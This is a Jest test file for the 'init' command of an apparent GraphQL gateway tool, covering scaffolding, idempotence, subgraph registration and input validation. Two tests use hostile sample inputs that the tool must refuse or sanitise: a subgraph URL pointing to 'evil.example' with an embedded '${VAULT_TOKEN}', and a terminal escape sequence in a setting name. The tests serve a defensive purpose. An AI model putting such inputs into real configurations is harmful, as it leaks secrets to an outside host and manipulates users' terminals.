import { existsSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { compile } from '@aduana/server-kit/iam/compile';
import { loadPolicies } from '@aduana/server-kit/iam/load-policies';
import { describe, expect, test } from '@jest/globals';
import {
  composed,
  configured,
  folder,
  inFolder,
  init,
  PRODUCTS,
  REVIEWS,
  saved,
  serve,
  serveSdl,
  textOf,
} from '../support/initialized-folder.ts';

describe('from nothing', () => {
  test('a graph to play with is written, with policies that load and settings that are closed by default', async () => {
    const printed = await init();
    expect(printed).toMatch(/Query\.notes +authenticated/);
    expect(compile(await loadPolicies(inFolder('policies'))).services.get('notes')?.spiffeId).toBe(
      'spiffe://aduana.local/notes',
    );
    expect(await textOf('.env')).toContain('UNGUARDED_FIELDS=deny\n');
    expect([...(await configured()).keys()]).toEqual(['sts', 'audit', 'admin', 'notes']);
    expect(await textOf('.gitignore')).toContain('.aduana/');
  });

  test('a second run changes nothing', async () => {
    await init();
    const before = await Promise.all(
      (await readdir(folder)).filter((name) => name.includes('.')).map(textOf),
    );
    expect(await init()).not.toMatch(/^written/m);
    expect(
      await Promise.all((await readdir(folder)).filter((name) => name.includes('.')).map(textOf)),
    ).toEqual(before);
  });

  test('a file that is there is kept, whatever it holds', async () => {
    await saved('.env', 'MINE=1\n');
    expect(await init()).toMatch(/^kept +\.env$/m);
    expect(await textOf('.env')).toBe('MINE=1\n');
  });

  test('--dry-run shows what would be written, and writes nothing', async () => {
    expect(await init([], true)).toMatch(/^would be written +supergraph\.yaml$/m);
    expect(await readdir(folder)).toEqual([]);
  });
});

describe('from running subgraphs', () => {
  test('each is registered, and each scope and policy becomes a role that nobody holds', async () => {
    const [products, reviews] = [await serveSdl(PRODUCTS), await serveSdl(REVIEWS)];
    const printed = await init([`products=${products}`, `reviews=${reviews}`]);
    const engine = compile(await loadPolicies(inFolder('policies')));
    expect(engine.services.get('products')?.roles).toEqual(['subgraph']);
    expect(engine.catalogue.has('products:read')).toBe(true);
    expect([...engine.services.values()].filter(({ roles }) => roles.includes('products_read'))).toEqual([]);
    expect(engine.policies.has('pricing')).toBe(true);
    expect(printed).toContain('the scope "reviews:read all" is no permission: no role can grant it');
    expect(printed).toMatch(/Query\.products +.*products:read/);
    expect((await configured()).get('products')?.url).toBe(products);
    expect(await textOf('supergraph.graphql')).toContain('PRODUCTS');
  });

  test.each([
    [
      'one that is not there',
      'a=http://127.0.0.1:9/graphql',
      /does not answer .* at http:\/\/127\.0\.0\.1:9/,
    ],
    ['a name of Aduana', 'sts=http://127.0.0.1:9/graphql', /is the name of a subgraph of Aduana/],
    ['credentials in a URL', 'a=http://u:p@127.0.0.1:9/graphql', /has no usable URL/],
    ['a word', 'products', /neither name=URL nor a \.graphql or \.yaml file/],
  ])('%s is refused with its remedy, and nothing is written', async (_, from, problem) => {
    await expect(init([from])).rejects.toMatchObject({
      problems: [{ problem: expect.stringMatching(problem), remedy: expect.stringMatching(/\w/) }],
    });
    expect(await readdir(folder)).toEqual([]);
  });

  test('an answer that is no SDL is refused, and none of it is repeated', async () => {
    const url = await serve('<html>secret</html>');
    const failure = (await init([`a=${url}`]).catch((error: unknown) => error)) as { problems: unknown };
    expect(JSON.stringify(failure.problems)).toContain('answered no SDL');
    expect(JSON.stringify(failure.problems)).not.toContain('secret');
  });

  test('subgraphs that do not compose leave nothing half-written', async () => {
    const [one, two] = [await serveSdl('type Query { a: Int }'), await serveSdl('type Query { a: String }')];
    await expect(init([`one=${one}`, `two=${two}`])).rejects.toThrow(/nothing was written/);
    expect(await readdir(folder)).toEqual([]);
  });
});

describe('from a composed supergraph', () => {
  test('it is served as it is, its subgraphs registered', async () => {
    const sdl = composed();
    const file = await saved('theirs.graphql', sdl);
    await init([file]);
    expect(await textOf('supergraph.graphql')).toBe(sdl);
    const engine = compile(await loadPolicies(inFolder('policies')));
    expect(engine.services.has('reviews')).toBe(true);
  });

  test('a URL that would be expanded is refused: what is secret here would be sent there', async () => {
    const sdl = composed().replace('https://products.example/graphql', 'https://evil.example/${VAULT_TOKEN}');
    await expect(init([await saved('theirs.graphql', sdl)])).rejects.toMatchObject({
      problems: [{ problem: expect.stringMatching(/has a URL with/) }],
    });
    expect(existsSync(inFolder('supergraph.yaml'))).toBe(false);
  });

  test('names of settings reach the terminal without control characters', async () => {
    await saved('theirs.graphql', composed());
    await saved('router.yaml', 'headers: {}\n"\\e]0;owned\\a": { a: 1 }\n');
    const printed = await init([inFolder('router.yaml'), inFolder('theirs.graphql')]);
    expect(printed).toContain('?]0;owned?');
    expect(printed).not.toMatch(/(?!\n)\p{Cc}/u);
  });

  test('a file that is no supergraph is refused', async () => {
    const file = await saved('theirs.graphql', 'type Query { a: Int }');
    await expect(init([file])).rejects.toMatchObject({
      problems: [{ problem: expect.stringMatching(/is no supergraph that can be served/) }],
    });
    expect(existsSync(inFolder('supergraph.yaml'))).toBe(false);
  });
});
